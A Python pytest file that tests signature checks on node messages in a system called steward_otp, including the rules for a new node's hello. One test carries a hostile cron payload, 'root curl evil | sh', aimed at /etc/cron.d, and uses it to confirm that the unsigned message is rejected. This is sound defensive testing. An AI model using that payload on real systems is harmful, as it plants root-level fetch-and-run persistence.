"""The verify hooks: every method checked, and the one rule for a new node's hello."""

from __future__ import annotations

from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from steward_otp.message import Message
from steward_otp.security.signing import Expected, sign
from steward_otp.security.verify import check_hello, decide, signature_hook

NOW = 1_750_000_000.0
CENTRAL = Ed25519PrivateKey.from_private_bytes(bytes(range(32)))
SHIP9 = Ed25519PrivateKey.from_private_bytes(bytes(range(5, 37)))
SHIP9_PUBLIC = SHIP9.public_key().public_bytes_raw()
ALLOWED = {"central": CENTRAL.public_key().public_bytes_raw()}
AT_CENTRAL = Expected(node="central", method="REQHello", now=NOW, max_age=3600)


def hello(**fields: Any) -> Message:
    values: dict[str, Any] = {
        "id": "ship9-1",
        "to_node": "central",
        "from_node": "ship9",
        "method": "REQHello",
        "data": SHIP9_PUBLIC,
        "directory": "hello-messages",
        "file_name": "hello.log",
        "reply_method": "REQNone",
    }
    values.update(fields)
    return Message(**values)


def by_ship9(message: Message, signer: str = "ship9") -> Message:
    return sign(message, SHIP9, signer=signer, now=NOW)


def test_a_new_nodes_hello_signed_with_the_key_it_carries_runs() -> None:
    assert check_hello(by_ship9(hello()), AT_CENTRAL) is None
    assert decide(by_ship9(hello()), ALLOWED.get, AT_CENTRAL) is None


@pytest.mark.parametrize(
    ("message", "problem"),
    [
        (hello(), "message is not signed"),
        (by_ship9(hello(data=b"")), "its data is not a 32-byte public key"),
        (by_ship9(hello(from_node="ship 9")), "fromNode 'ship 9' is not a valid node name"),
        (by_ship9(hello(), signer="ship8"), "signed by 'ship8', not by its fromNode 'ship9'"),
        (by_ship9(hello(directory="/etc/cron.d")), "directory '/etc/cron.d' is outside"),
        (by_ship9(hello(directory="./etc/signing")), "directory './etc/signing' is outside"),
        (
            sign(hello(), CENTRAL, signer="ship9", now=NOW),
            "bad signature: the message does not verify with the allowed key of 'ship9'",
        ),
        (by_ship9(hello(to_node="ship1")), "re-targeted: signed for toNode 'ship1'"),
        (sign(hello(), SHIP9, signer="ship9", now=NOW - 7200), "too old"),
    ],
)
def test_a_hello_without_an_allowed_key_must_prove_it_holds_the_key(
    message: Message, problem: str
) -> None:
    verdict = decide(message, ALLOWED.get, AT_CENTRAL)

    assert verdict is not None and problem in verdict, verdict


def test_the_hello_rule_is_for_hellos_only() -> None:
    ping = by_ship9(hello(method="REQPing"))
    at = Expected(node="central", method="REQPing", now=NOW, max_age=3600)

    verdict = decide(ping, ALLOWED.get, at)

    assert verdict == (
        "signature check: message ship9-1 from ship9: unknown signer 'ship9': no allowed "
        "public key for it on central"
    )


def test_an_output_method_is_checked_like_any_other() -> None:
    # REQToFile writes where directory points: unchecked, anyone could write any file.
    to_file = Message(
        id="x-1",
        to_node="ship1",
        from_node="mallory",
        method="REQToFile",
        data=b"* * * * * root curl evil | sh\n",
        directory="/etc/cron.d",
        file_name="evil",
    )
    at = Expected(node="ship1", method="REQToFile", now=NOW, max_age=3600)

    verdict = decide(to_file, ALLOWED.get, at)

    assert verdict is not None
    assert verdict.startswith("signature check: message x-1 from mallory: message is not signed")


async def test_the_hook_refreshes_first_and_uses_the_clock() -> None:
    calls: list[str] = []
    hook = signature_hook(
        node="central",
        method="REQHello",
        keys=ALLOWED.get,
        max_age=3600,
        clock=lambda: NOW,
        before=lambda: calls.append("refresh"),
    )

    assert await hook(by_ship9(hello())) is None
    assert await hook(hello()) is not None
    assert calls == ["refresh", "refresh"]
